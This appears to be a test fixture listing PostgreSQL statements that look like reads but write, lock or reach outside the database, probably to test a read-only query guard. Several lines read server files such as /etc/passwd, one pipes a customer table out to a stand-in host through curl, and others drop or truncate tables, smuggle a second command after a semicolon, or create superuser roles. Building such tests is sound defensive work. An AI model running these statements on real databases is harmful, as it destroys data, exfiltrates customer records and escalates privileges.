-- Statements that change data, state or the outside world while looking harmless. One a line.
DELETE FROM transactions
delete from TRANSACTIONS where 1=1
UPDATE accounts SET status = 'frozen' WHERE true
UPDATE accounts SET status = 'frozen' WHERE 'a' = 'a'
DrOp TaBlE audit_notes
INSERT INTO audit_notes (note) VALUES ('x')
WITH gone AS (DELETE FROM audit_notes RETURNING id) SELECT count(*) FROM gone
WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT * FROM u
EXPLAIN ANALYZE DELETE FROM audit_notes
EXPLAIN (ANALYZE, FORMAT JSON) UPDATE accounts SET balance = 1
SELECT * INTO stolen FROM customers
CREATE TABLE stolen AS SELECT * FROM customers
CREATE MATERIALIZED VIEW mv AS SELECT ssn FROM customers
SELECT 1; DELETE FROM audit_notes
COPY customers TO '/tmp/customers.csv'
COPY customers TO PROGRAM 'curl -d @- http://example.invalid'
COPY audit_notes FROM STDIN
COPY audit_notes FROM PROGRAM 'cat /etc/passwd'
DO $$ BEGIN DELETE FROM audit_notes; END $$
DO $$ BEGIN EXECUTE 'DELETE FROM ' || 'audit_notes'; END $$
SELECT set_config('role', 'postgres', false)
SELECT lo_import('/etc/passwd')
SELECT lo_export(1234, '/tmp/x')
SELECT pg_read_file('/etc/passwd')
SELECT dblink_exec('host=127.0.0.1', 'DELETE FROM audit_notes')
SELECT * FROM dblink('host=127.0.0.1', 'SELECT 1') AS t(x int)
SELECT nextval('audit_notes_id_seq')
SELECT setval('audit_notes_id_seq', 1)
SELECT * FROM accounts FOR UPDATE
SELECT id FROM accounts WHERE id = 1 FOR SHARE
LOCK TABLE accounts IN ACCESS EXCLUSIVE MODE
LISTEN payments
NOTIFY payments, 'hello'
SELECT pg_notify('payments', 'x')
CALL some_procedure()
PREPARE p AS DELETE FROM audit_notes
PREPARE p2 (int) AS UPDATE accounts SET balance = 0 WHERE id = $1
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
RESET ROLE
GRANT ALL ON customers TO public
REVOKE SELECT ON customers FROM public
CREATE ROLE intruder SUPERUSER
ALTER TABLE customers ADD COLUMN x int
TRUNCATE transactions
SELECT pg_terminate_backend(1)
SELECT pg_sleep(10)
MERGE INTO accounts a USING customers c ON a.customer_id = c.id WHEN MATCHED THEN UPDATE SET balance = 0
INSERT INTO audit_notes (note) SELECT ssn FROM customers ON CONFLICT DO NOTHING
/* harmless */ DELETE /* really */ FROM audit_notes -- trailing
SELECT query_to_xml('DELETE FROM audit_notes RETURNING *', true, true, '')
SELECT my_function()
VACUUM customers
ANALYZE customers
CHECKPOINT
REFRESH MATERIALIZED VIEW mv
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
COMMENT ON TABLE customers IS 'x'
DISCARD ALL
SET search_path = evil
LOAD 'auto_explain'
EXECUTE unknown_statement
SELECT txid_current()
BEGIN; DELETE FROM audit_notes; COMMIT
WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3), d AS (DELETE FROM audit_notes) SELECT * FROM r
SELECT (SELECT count(*) FROM (WITH x AS (DELETE FROM audit_notes RETURNING 1) SELECT * FROM x) s)
UPDATE accounts SET status = 'open' WHERE id = id
DELETE FROM audit_notes WHERE note IS NULL OR note IS NOT NULL
SELECT pg_advisory_lock(1)
SELECT lo_create(0)
SELECT "Upper"('x')
SELECT * FROM "Generate_series"(1, 2)
SELECT !!! 'audit_notes_id_seq'::regclass
SELECT 1 OPERATOR(public.===) 2
SET TRANSACTION READ WRITE
SET transaction_read_only = off
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE
SELECT 1 FROM customers WHERE id === ANY (ARRAY[1])
START TRANSACTION READ WRITE
BEGIN ISOLATION LEVEL SERIALIZABLE, READ WRITE; DELETE FROM audit_notes; COMMIT
BEGIN; SELECT 1; COMMIT; BEGIN READ WRITE
SELECT 1 FROM customers ORDER BY id USING OPERATOR(public.<<<)
SELECT array_agg(id ORDER BY id USING <<<) FROM customers
SELECT row_number() OVER (ORDER BY id USING <<<) FROM customers
SELECT 1 WHERE 1 <<< ANY (SELECT 1)
SELECT 1 WHERE 1 OPERATOR(public.=) ALL (SELECT 1)
SELECT xmlelement(name x, 1 <<< 2)
SELECT 1 FROM accounts GROUP BY GROUPING SETS ((id <<< 2))
SELECT (ARRAY[1])[1 ### 1]
SELECT '5'::dside
SELECT CAST('zzz' AS mood)
SELECT 5::public.dside
SELECT dside '5'
SELECT ARRAY['5']::dside[]
SELECT 1 WHERE '5'::dside > 0
SELECT jsonb_populate_record(NULL::evil_row, '{"a": 1}')
SELECT * FROM json_to_record('{"a": 5}') AS x(a dside)
SELECT x.nextval FROM to_regclass('audit_notes_id_seq') AS x
SELECT x.pg_advisory_lock FROM int8(5) AS x
DECLARE c CURSOR FOR SELECT nextval('audit_notes_id_seq'); FETCH c
SELECT * FROM XMLTABLE('/a' PASSING xml '<a/>' COLUMNS x dside PATH 'b')
SELECT JSON_VALUE('{"a":"5"}', '$.a' RETURNING dside)
SELECT * FROM to_regclass('audit_notes_id_seq') AS x, LATERAL (SELECT x.nextval) y
SELECT s.pg_advisory_lock FROM CAST(7 AS bigint) AS s
START TRANSACTION READ WRITE, READ ONLY
SELECT * FROM XMLTABLE('/a' PASSING xml '<a/>' COLUMNS x int PATH 'b' DEFAULT nextval('audit_notes_id_seq'))
PREPARE q9(int) AS SELECT $1; EXECUTE q9(nextval('audit_notes_id_seq'))
SELECT * FROM accounts TABLESAMPLE evil (10)
SELECT count(*) FROM customers TABLESAMPLE public.system (10) REPEATABLE (1)
SELECT 1 WHERE 5 BETWEEN nextval('invoice_seq') AND 10
-- Writes and side effects in every clause and spelling; each failed in a read-only transaction on PostgreSQL 15 or changed something visible there (settings, locks, notifications, large objects, files, statistics, WAL), or reaches outside the database (server files, other connections).
-- writable CTEs in odd places
WITH d AS (DELETE FROM audit_notes WHERE id = 1 RETURNING *) SELECT * FROM d
WITH i AS (INSERT INTO audit_notes (note) VALUES ('x') RETURNING id) SELECT id FROM i
WITH u AS (UPDATE accounts SET balance = balance + 1 WHERE id = 1 RETURNING balance) SELECT sum(balance) FROM u
WITH a AS (SELECT 1), d AS (DELETE FROM audit_notes) SELECT * FROM a
WITH d AS (DELETE FROM audit_notes RETURNING id) INSERT INTO audit_notes (note) SELECT 'moved ' || id FROM d
WITH x AS MATERIALIZED (UPDATE accounts SET balance = 0 RETURNING id) SELECT 1
WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3), u AS (UPDATE accounts SET balance = 0 WHERE id IN (SELECT n FROM r) RETURNING id) TABLE u
WITH "Del" AS (DELETE FROM "audit_notes" RETURNING "id") SELECT count(*) FROM "Del"
with d as (delete from public.audit_notes returning *) values ((select count(*) from d))
WITH d AS (DELETE FROM audit_notes RETURNING id) SELECT id FROM d UNION ALL SELECT 0
WITH cte AS (SELECT id FROM accounts) UPDATE accounts SET status = 'frozen' FROM cte WHERE accounts.id = cte.id
WITH cte AS (SELECT 1) DELETE FROM audit_notes
WITH cte AS (VALUES ('n')) INSERT INTO audit_notes (note) SELECT * FROM cte
EXPLAIN ANALYZE WITH d AS (DELETE FROM audit_notes RETURNING id) SELECT * FROM d
-- side-effecting functions in every clause
SELECT nextval('invoice_seq')
SELECT pg_catalog.nextval('invoice_seq')
SELECT "nextval"('invoice_seq')
SELECT pg_catalog."nextval"('invoice_seq')
SELECT PG_CATALOG.NEXTVAL('INVOICE_SEQ')
SELECT U&"\006Eextval"('invoice_seq')
SELECT U&"!006Eextval" UESCAPE '!' ('invoice_seq')
SELECT U&"nextval"('invoice_seq')
SELECT nextval/**/('invoice_seq')
SELECT pg_catalog . nextval ( 'invoice_seq' )
SELECT nextval($$invoice_seq$$)
SELECT nextval($q$invoice_seq$q$::regclass)
SELECT nextval(E'invoice\_seq')
SELECT nextval('invoice_seq'::regclass)
SELECT * FROM nextval('invoice_seq')
SELECT * FROM pg_catalog.nextval('invoice_seq') AS n(v)
SELECT * FROM ROWS FROM (nextval('invoice_seq'))
SELECT id FROM customers ORDER BY nextval('invoice_seq')
SELECT id FROM customers LIMIT nextval('invoice_seq')
SELECT id FROM customers OFFSET nextval('invoice_seq') - nextval('invoice_seq')
SELECT id FROM customers FETCH FIRST (nextval('invoice_seq')) ROWS ONLY
SELECT c.id FROM customers c JOIN accounts a ON a.customer_id = c.id AND nextval('invoice_seq') > 0
SELECT * FROM customers c LEFT JOIN accounts a ON pg_notify('ch', c.id::text) IS NULL
VALUES (nextval('invoice_seq'))
VALUES (1), (setval('invoice_seq', 100))
SELECT * FROM (VALUES (nextval('invoice_seq'))) v(x)
SELECT count(*) FILTER (WHERE nextval('invoice_seq') > 0) FROM accounts
SELECT sum(balance) FILTER (WHERE pg_notify('c', id::text) IS NULL) FROM accounts
SELECT row_number() OVER w FROM accounts WINDOW w AS (ORDER BY nextval('invoice_seq'))
SELECT row_number() OVER (PARTITION BY nextval('invoice_seq')) FROM accounts
SELECT sum(id) OVER (ORDER BY id ROWS BETWEEN nextval('invoice_seq') PRECEDING AND CURRENT ROW) FROM accounts
SELECT status FROM accounts GROUP BY status, nextval('invoice_seq')
SELECT status FROM accounts GROUP BY status HAVING nextval('invoice_seq') > 0
SELECT status FROM accounts GROUP BY ROLLUP (status, setval('invoice_seq', 1))
SELECT DISTINCT ON (nextval('invoice_seq')) id FROM accounts
SELECT * FROM accounts TABLESAMPLE SYSTEM (nextval('invoice_seq'))
SELECT * FROM accounts TABLESAMPLE BERNOULLI (50) REPEATABLE (nextval('invoice_seq'))
SELECT CASE WHEN id > 0 THEN nextval('invoice_seq') END FROM accounts
SELECT coalesce(NULL, nextval('invoice_seq'))
SELECT greatest(1, nextval('invoice_seq'))
SELECT nullif(nextval('invoice_seq'), 0)
SELECT ARRAY[nextval('invoice_seq')]
SELECT (ARRAY[1,2,3])[nextval('invoice_seq')]
SELECT ROW(nextval('invoice_seq'), 1)
SELECT nextval('invoice_seq')::text
SELECT CAST(nextval('invoice_seq') AS text)
SELECT 1 WHERE nextval('invoice_seq') IN (1, 2)
SELECT 1 WHERE nextval('invoice_seq') IS DISTINCT FROM 0
SELECT (SELECT nextval('invoice_seq'))
SELECT 1 WHERE 1 = ANY (SELECT nextval('invoice_seq'))
SELECT string_agg(id::text, ',' ORDER BY nextval('invoice_seq')) FROM accounts
SELECT percentile_cont(0.5) WITHIN GROUP (ORDER BY nextval('invoice_seq')) FROM accounts
SELECT array_agg(nextval('invoice_seq')) FROM accounts
SELECT jsonb_build_object('n', nextval('invoice_seq'))
SELECT json_agg(setval('invoice_seq', id)) FROM accounts
SELECT xmlelement(name n, nextval('invoice_seq'))
SELECT format('%s', nextval('invoice_seq'))
SELECT length(pg_notify('c', 'x')::text)
SELECT lower(set_config('search_path', 'public', false))
SELECT now() AT TIME ZONE set_config('timezone', 'UTC', false)
SELECT generate_series(1, nextval('invoice_seq')::int)
SELECT * FROM generate_series(1, 3) g, LATERAL (SELECT nextval('invoice_seq')) x
SELECT * FROM unnest(ARRAY[nextval('invoice_seq')])
SELECT c.id FROM customers c WHERE c.id = (SELECT setval('invoice_seq', 5))
SELECT id FROM customers WHERE id < 3 AND pg_try_advisory_lock(id)
SELECT * FROM json_to_record(json_build_object('a', nextval('invoice_seq'))) AS x(a int)
SELECT 1 FROM customers c WHERE c.full_name ~ set_config('x.y', 'z', false)
SELECT id FROM customers ORDER BY id USING > LIMIT setval('invoice_seq', 3)
SELECT to_char(nextval('invoice_seq'), '999')
-- other side-effecting built-ins
SELECT setval('invoice_seq', 42, false)
SELECT pg_catalog.setval('public.invoice_seq', 1, true)
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'nobody'
SELECT pg_terminate_backend(pg_backend_pid(), 1000)
SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE state = 'active' AND pid <> pg_backend_pid()
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_switch_wal()
SELECT pg_create_restore_point('before')
SELECT pg_log_backend_memory_contexts(pg_backend_pid())
SELECT pg_stat_reset()
SELECT pg_stat_reset_shared('bgwriter')
SELECT pg_stat_reset_single_table_counters('customers'::regclass)
SELECT pg_stat_reset_slru(NULL)
SELECT set_config('search_path', '', false)
SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)
SELECT set_config('statement_timeout', '0', true)
SELECT set_config('session_replication_role', 'replica', false)
SELECT pg_notify('payments', 'drain')
SELECT pg_catalog.pg_notify('a', 'b')
SELECT U&"\0070g_notify"('a', 'b')
SELECT pg_advisory_lock_shared(7)
SELECT pg_try_advisory_lock(7)
SELECT pg_try_advisory_lock_shared(1, 2)
SELECT pg_advisory_xact_lock(7)
SELECT pg_advisory_xact_lock_shared(7)
SELECT pg_try_advisory_xact_lock(7)
SELECT pg_advisory_unlock(7)
SELECT pg_advisory_unlock_all()
SELECT pg_advisory_unlock_shared(7)
SELECT pg_sleep(0.1)
SELECT pg_sleep_for('1 second')
SELECT pg_sleep_until(now() + interval '1 second')
SELECT pg_current_xact_id()
SELECT pg_export_snapshot()
SELECT pg_import_system_collations('pg_catalog')
SELECT lo_creat(-1)
SELECT lo_create(424242)
SELECT lo_from_bytea(0, 'secret')
SELECT lo_unlink(424242)
SELECT lo_put(lo_from_bytea(0, 'a'), 0, 'x')
SELECT lowrite(lo_open(lo_creat(-1), 131072), 'x')
SELECT lo_truncate(lo_open(lo_creat(-1), 131072), 0)
SELECT lo_import('/etc/hostname', 500001)
SELECT pg_read_file('postgresql.conf')
SELECT pg_read_file('/etc/hostname', 0, 10, true)
SELECT pg_read_binary_file('postmaster.pid')
SELECT pg_stat_file('postgresql.conf')
SELECT * FROM pg_ls_dir('.')
SELECT * FROM pg_ls_waldir()
SELECT * FROM pg_ls_tmpdir()
SELECT * FROM pg_ls_archive_statusdir()
SELECT * FROM pg_ls_logicalsnapdir()
SELECT * FROM pg_ls_logicalmapdir()
SELECT pg_current_logfile_placeholder_write FROM pg_read_file('PG_VERSION') AS pg_current_logfile_placeholder_write
SELECT dblink_connect('c1', 'dbname=payments host=127.0.0.1 port=29200 user=postgres'); SELECT dblink_disconnect('c1')
SELECT dblink_exec('dbname=payments host=127.0.0.1 port=29200 user=postgres', 'INSERT INTO audit_notes (note) VALUES (''via dblink'')')
SELECT * FROM dblink('dbname=payments host=127.0.0.1 port=29200 user=postgres', 'DELETE FROM audit_notes WHERE false RETURNING id') AS t(id int)
SELECT public.dblink_exec('dbname=payments host=127.0.0.1 port=29200 user=postgres', 'UPDATE accounts SET status = status WHERE id = 1')
SELECT pg_create_physical_replication_slot('s1')
SELECT pg_drop_replication_slot('s1')
SELECT pg_logical_emit_message(true, 'p', 'x')
SELECT pg_replication_origin_create('o1')
SELECT brin_summarize_new_values('tx_brin')
SELECT gin_clean_pending_list('c_gin')
SELECT pg_nextoid('pg_class', 'oid', 'pg_class_oid_index')
-- SELECT INTO / CREATE TABLE AS
SELECT * INTO TEMP stolen_tmp FROM customers
SELECT * INTO TEMPORARY TABLE stolen_tmp2 FROM customers
SELECT id INTO UNLOGGED stolen_u FROM customers
SELECT ssn INTO TABLE public.stolen_t FROM customers WHERE id < 3
select * into "Stolen" from customers
SELECT 1 AS x INTO stolen_one
CREATE TEMP TABLE tmp_c AS SELECT * FROM customers
CREATE TEMPORARY TABLE tmp_c2 AS TABLE customers
CREATE UNLOGGED TABLE u_c AS SELECT 1 AS x
CREATE TABLE IF NOT EXISTS c_copy AS SELECT * FROM customers WITH NO DATA
CREATE TABLE c_vals AS VALUES (1), (2)
PREPARE q AS SELECT * FROM customers; CREATE TABLE c_exec AS EXECUTE q
CREATE MATERIALIZED VIEW IF NOT EXISTS mv2 AS SELECT 1 WITH NO DATA
EXPLAIN ANALYZE CREATE TABLE ea_t AS SELECT 1 AS x
EXPLAIN ANALYZE SELECT * INTO ea_into FROM customers
EXPLAIN (ANALYZE) CREATE MATERIALIZED VIEW ea_mv AS SELECT 1
EXPLAIN ANALYZE CREATE TABLE ea_t2 AS SELECT nextval('invoice_seq')
-- row locks
SELECT * FROM accounts WHERE id = 1 FOR NO KEY UPDATE
SELECT * FROM accounts WHERE id = 1 FOR KEY SHARE
SELECT * FROM accounts FOR UPDATE NOWAIT
SELECT * FROM accounts FOR UPDATE SKIP LOCKED LIMIT 1
SELECT a.* FROM accounts a JOIN customers c ON c.id = a.customer_id FOR UPDATE OF a
SELECT * FROM accounts FOR SHARE OF accounts FOR UPDATE OF accounts
SELECT * FROM (SELECT * FROM accounts FOR UPDATE) s
WITH l AS (SELECT id FROM accounts FOR UPDATE) SELECT count(*) FROM l
SELECT 1 WHERE EXISTS (SELECT 1 FROM accounts FOR SHARE)
SELECT (SELECT id FROM accounts ORDER BY id LIMIT 1 FOR UPDATE)
SELECT * FROM accounts a, LATERAL (SELECT 1 FROM transactions t WHERE t.account_id = a.id FOR KEY SHARE) x
SELECT id FROM accounts WHERE id IN (SELECT id FROM accounts FOR NO KEY UPDATE)
BEGIN; DECLARE lc CURSOR FOR SELECT * FROM accounts FOR UPDATE; FETCH lc; COMMIT
TABLE accounts FOR UPDATE
select * from accounts for update
-- COPY
COPY (SELECT * FROM customers) TO '/tmp/sql4_out.csv' WITH (FORMAT csv)
COPY customers (ssn) TO '/tmp/sql4_ssn.txt'
COPY accounts TO PROGRAM 'cat > /dev/null'
COPY (SELECT 1) TO PROGRAM 'true'
COPY audit_notes (note) FROM STDIN WITH (FORMAT csv)
COPY audit_notes FROM '/tmp/notes.csv'
COPY audit_notes FROM PROGRAM 'echo 99	x'
COPY audit_notes FROM STDIN WHERE id > 0
COPY BINARY audit_notes FROM STDIN
copy "audit_notes" from stdin
COPY (SELECT nextval('invoice_seq')) TO STDOUT
COPY (WITH d AS (DELETE FROM audit_notes RETURNING *) SELECT * FROM d) TO STDOUT
COPY (DELETE FROM audit_notes RETURNING *) TO STDOUT
COPY (UPDATE accounts SET balance = 0 RETURNING id) TO STDOUT
COPY (INSERT INTO audit_notes (note) VALUES ('c') RETURNING id) TO STDOUT
COPY (SELECT * FROM accounts FOR UPDATE) TO STDOUT
-- CALL / DO / EXECUTE / PREPARE
CALL touch_note()
CALL public.touch_note()
call TOUCH_NOTE()
DO LANGUAGE plpgsql $$ BEGIN UPDATE accounts SET balance = 0; END $$
DO $body$ DECLARE r record; BEGIN FOR r IN SELECT id FROM audit_notes LOOP DELETE FROM audit_notes WHERE id = r.id; END LOOP; END $body$
DO $$ BEGIN EXECUTE format('TRUNCATE %I', 'audit_notes'); END $$
PREPARE w AS DELETE FROM audit_notes; EXECUTE w
PREPARE w2(text) AS INSERT INTO audit_notes (note) VALUES ($1); EXECUTE w2('x')
PREPARE w3 AS SELECT nextval('invoice_seq'); EXECUTE w3
PREPARE w4 AS SELECT * FROM accounts FOR UPDATE; EXECUTE w4
PREPARE w6 AS DELETE FROM audit_notes; EXPLAIN ANALYZE EXECUTE w6
PREPARE w7 AS UPDATE accounts SET balance = 0; EXPLAIN (ANALYZE, BUFFERS) EXECUTE w7
-- multi-statement strings and lexical disguise
SELECT 1; UPDATE accounts SET balance = 0
SELECT 1;DELETE FROM audit_notes
SELECT ';'; DROP TABLE audit_notes
SELECT $$;$$; DELETE FROM audit_notes
SELECT 1 /* ; */ ; TRUNCATE audit_notes
SELECT 1; SELECT 2; INSERT INTO audit_notes (note) VALUES ('3')
BEGIN READ ONLY; SELECT 1; COMMIT; DELETE FROM audit_notes
BEGIN READ ONLY; COMMIT; BEGIN; UPDATE accounts SET balance = 0; COMMIT
SHOW search_path; SET search_path = evil
EXPLAIN SELECT 1; EXPLAIN ANALYZE DELETE FROM audit_notes
DeLeTe FrOm "audit_notes" WhErE TRUE
INSERT INTO "public"."audit_notes" ("note") VALUES (U&'\0078')
update/**/accounts/**/set/**/balance=0
UPDATE ONLY accounts SET balance = 0 WHERE id = 1
DELETE FROM ONLY audit_notes
	DELETE	FROM	audit_notes	
/*SELECT*/DELETE FROM audit_notes
-- SELECT
INSERT INTO audit_notes DEFAULT VALUES
INSERT INTO audit_notes (note) VALUES ($$dollar$$) RETURNING *
INSERT INTO audit_notes (id, note) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET note = EXCLUDED.note
INSERT INTO audit_notes (id, note) VALUES (1, 'x') ON CONFLICT ON CONSTRAINT audit_notes_pkey DO NOTHING
INSERT INTO audit_notes AS n (id, note) VALUES (1, 'x') ON CONFLICT (id) DO UPDATE SET note = n.note || '!' WHERE n.id > 0
INSERT INTO audit_notes (note) OVERRIDING USER VALUE VALUES ('o')
INSERT INTO audit_notes (note) SELECT full_name FROM customers WHERE false
UPDATE accounts a SET balance = a.balance FROM customers c WHERE c.id = a.customer_id AND false
UPDATE accounts SET (balance, status) = (SELECT 0, 'closed') WHERE id = 1
UPDATE accounts SET balance = DEFAULT WHERE false
UPDATE accounts SET status = 'x' WHERE id = 1 RETURNING *
DELETE FROM transactions t USING accounts a WHERE t.account_id = a.id AND a.status = 'closed'
DELETE FROM audit_notes WHERE id IN (SELECT id FROM audit_notes LIMIT 1) RETURNING note
DELETE FROM audit_notes WHERE CURRENT OF c
MERGE INTO audit_notes n USING (VALUES (1, 'm')) v(id, note) ON n.id = v.id WHEN MATCHED THEN DELETE WHEN NOT MATCHED THEN INSERT VALUES (v.id, v.note)
-- utility statements with effects
TRUNCATE TABLE ONLY audit_notes RESTART IDENTITY CASCADE
TRUNCATE audit_notes, transactions CONTINUE IDENTITY RESTRICT
VACUUM
VACUUM (VERBOSE, ANALYZE) customers
VACUUM FULL audit_notes
VACUUM FREEZE
ANALYZE VERBOSE accounts
ANALYZE
ANALYSE customers
CLUSTER accounts USING accounts_pkey
CLUSTER
REINDEX TABLE customers
REINDEX INDEX customers_pkey
REINDEX DATABASE payments
REINDEX (VERBOSE) TABLE CONCURRENTLY accounts
REFRESH MATERIALIZED VIEW mv_balances
REFRESH MATERIALIZED VIEW CONCURRENTLY mv_balances
REFRESH MATERIALIZED VIEW mv_balances WITH NO DATA
LISTEN "Payments"
UNLISTEN payments
UNLISTEN *
NOTIFY payments
NOTIFY "x y", 'payload'
BEGIN; LOCK accounts; COMMIT
BEGIN; LOCK TABLE ONLY accounts IN SHARE MODE NOWAIT; COMMIT
BEGIN; LOCK TABLE accounts, customers IN ROW EXCLUSIVE MODE; COMMIT
BEGIN; LOCK TABLE accounts IN ACCESS SHARE MODE; ROLLBACK
BEGIN; LOCK TABLE public.customers IN ACCESS SHARE MODE; SELECT 1; COMMIT
SET LOCAL statement_timeout = '5s'
SET statement_timeout = 0
SET SESSION work_mem = '1GB'
SET TIME ZONE 'UTC'
SET timezone TO 'Europe/Berlin'
SET SCHEMA 'public'
SET NAMES 'UTF8'
SET client_encoding = 'LATIN1'
SET application_name = 'x'
SET extra_float_digits = 3
SET default_transaction_read_only = off
SET default_transaction_read_only TO false
SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL SERIALIZABLE
SET session_replication_role = replica
SET standard_conforming_strings = off
SET LOCAL transaction_read_only = off
SET transaction_read_only TO DEFAULT
SET XML OPTION DOCUMENT
SET row_security = off
SET LOCAL search_path TO evil, public
SET "search_path" = 'x'
RESET ALL
RESET search_path
RESET default_transaction_read_only
RESET SESSION AUTHORIZATION
BEGIN; SET LOCAL statement_timeout = '1s'; SELECT 1; COMMIT
DISCARD PLANS
DISCARD SEQUENCES
DISCARD TEMP
DISCARD TEMPORARY
LOAD 'plpgsql'
SECURITY LABEL FOR selinux ON TABLE customers IS 'system_u:object_r:sepgsql_table_t:s0'
COMMENT ON COLUMN customers.ssn IS 'x'
COMMENT ON TABLE customers IS NULL
COMMENT ON FUNCTION customer_by_id(int) IS 'x'
ALTER SYSTEM SET work_mem = '1GB'
ALTER SYSTEM RESET ALL
ALTER DATABASE payments SET default_transaction_read_only = off
ALTER ROLE postgres SET search_path = evil
ALTER SEQUENCE invoice_seq RESTART WITH 1
ALTER TABLE customers ENABLE ROW LEVEL SECURITY
ALTER TABLE accounts DISABLE TRIGGER ALL
ALTER INDEX customers_pkey RENAME TO x
ALTER LARGE OBJECT 424242 OWNER TO postgres
ALTER EXTENSION pg_stat_statements UPDATE
ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public
IMPORT FOREIGN SCHEMA public LIMIT TO (customers) FROM SERVER loop INTO remote
CREATE SERVER s2 FOREIGN DATA WRAPPER postgres_fdw
CREATE USER MAPPING FOR public SERVER loop
CREATE FOREIGN TABLE ft (id int) SERVER loop
CREATE EXTENSION IF NOT EXISTS pgcrypto
DROP EXTENSION IF EXISTS pgcrypto
CREATE TEMP TABLE t1 (id int)
CREATE TEMP VIEW v1 AS SELECT 1
CREATE OR REPLACE VIEW cv AS SELECT * FROM customers
CREATE INDEX ON customers (full_name)
CREATE INDEX CONCURRENTLY ix ON customers (email)
CREATE SCHEMA evil
CREATE SEQUENCE s9
CREATE TYPE mood2 AS ENUM ('a')
CREATE DOMAIN d9 AS int CHECK (VALUE > 0)
CREATE TRIGGER trg BEFORE INSERT ON audit_notes FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()
CREATE RULE r AS ON INSERT TO audit_notes DO INSTEAD NOTHING
CREATE POLICY p ON customers USING (true)
CREATE STATISTICS st ON id, email FROM customers
CREATE PUBLICATION pub FOR ALL TABLES
CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION x()
CREATE CAST (text AS int) WITH INOUT
CREATE AGGREGATE agg9 (int) (sfunc = int4pl, stype = int)
CREATE OPERATOR === (leftarg = int, rightarg = int, function = int4eq)
CREATE COLLATION c9 (locale = 'C')
CREATE TEXT SEARCH CONFIGURATION ts9 (COPY = english)
CREATE DATABASE db9
DROP DATABASE IF EXISTS db9
CREATE TABLESPACE ts LOCATION '/tmp'
CREATE ROLE r9
CREATE USER u9 PASSWORD 'x'
ALTER USER postgres PASSWORD 'x'
DROP ROLE IF EXISTS r9
GRANT pg_read_server_files TO public
GRANT EXECUTE ON FUNCTION pg_read_file(text) TO public
REVOKE ALL ON SCHEMA public FROM public
REASSIGN OWNED BY postgres TO postgres
DROP OWNED BY r9
DROP VIEW customer_contacts
DROP INDEX IF EXISTS ix
DROP FUNCTION IF EXISTS customer_by_id(int)
DROP SCHEMA remote CASCADE
ALTER TABLE accounts RENAME TO accts
ALTER TABLE accounts ALTER COLUMN balance SET DEFAULT 0
CREATE FUNCTION f9() RETURNS int LANGUAGE sql IMMUTABLE AS 'SELECT 1'
CREATE OR REPLACE PROCEDURE p9() LANGUAGE sql AS 'SELECT 1'
CREATE LANGUAGE plperl
-- transaction statements that are not harmless
BEGIN READ WRITE
BEGIN TRANSACTION READ WRITE; SELECT 1; COMMIT
START TRANSACTION ISOLATION LEVEL SERIALIZABLE READ WRITE
BEGIN; SET TRANSACTION READ WRITE; COMMIT
SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE; SELECT 1
-- EXPLAIN ANALYZE of writes and side effects
EXPLAIN (ANALYZE TRUE) DELETE FROM audit_notes
EXPLAIN (ANALYZE on, COSTS off) INSERT INTO audit_notes (note) VALUES ('e')
EXPLAIN (ANALYZE 1) UPDATE accounts SET balance = 0
EXPLAIN ANALYZE VERBOSE MERGE INTO accounts a USING accounts b ON a.id = b.id WHEN MATCHED THEN UPDATE SET balance = 0
EXPLAIN ANALYZE SELECT nextval('invoice_seq')
EXPLAIN ANALYZE SELECT * FROM accounts FOR UPDATE
EXPLAIN (ANALYZE, FORMAT JSON) SELECT pg_notify('c', 'x')
SELECT pg_backup_start('x', true)
SELECT query_to_xml('SELECT nextval(''invoice_seq'')', true, false, '')
SELECT pg_catalog.query_to_xml($$SELECT pg_notify('c', 'x')$$, true, false, '')
SELECT x.pg_advisory_lock FROM unnest(ARRAY[5]) AS x(y)
SELECT g.pg_sleep FROM generate_series(0, 0) AS g
SELECT ('invoice_seq'::regclass).nextval
SELECT 1 UNION SELECT 2 LIMIT nextval('invoice_seq')
VALUES (1) LIMIT nextval('invoice_seq')
WITH d AS (DELETE FROM audit_notes) SELECT 1 UNION SELECT 2
WITH d AS (DELETE FROM audit_notes) VALUES (1)
(SELECT * FROM accounts) FOR UPDATE
SELECT 'a' SIMILAR TO 'a' ESCAPE chr(nextval('invoice_seq')::int)
SELECT payments.pg_catalog.nextval('invoice_seq')
SELECT count(*) FILTER (WHERE nextval('invoice_seq') > 0) OVER () FROM accounts
